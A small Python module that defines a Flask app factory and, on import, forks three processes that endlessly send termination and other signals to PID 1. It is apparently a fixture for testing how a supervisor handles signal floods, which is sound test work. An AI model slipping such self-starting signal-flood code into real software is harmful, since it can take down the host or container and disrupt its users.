import os
import signal

from flask import Flask

NUMBERS = [signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGCHLD]
for _ in range(3):
    if os.fork() == 0:
        while True:
            for number in NUMBERS:
                try:
                    os.kill(1, number)
                except OSError:
                    pass


def create_app():
    return Flask(__name__)
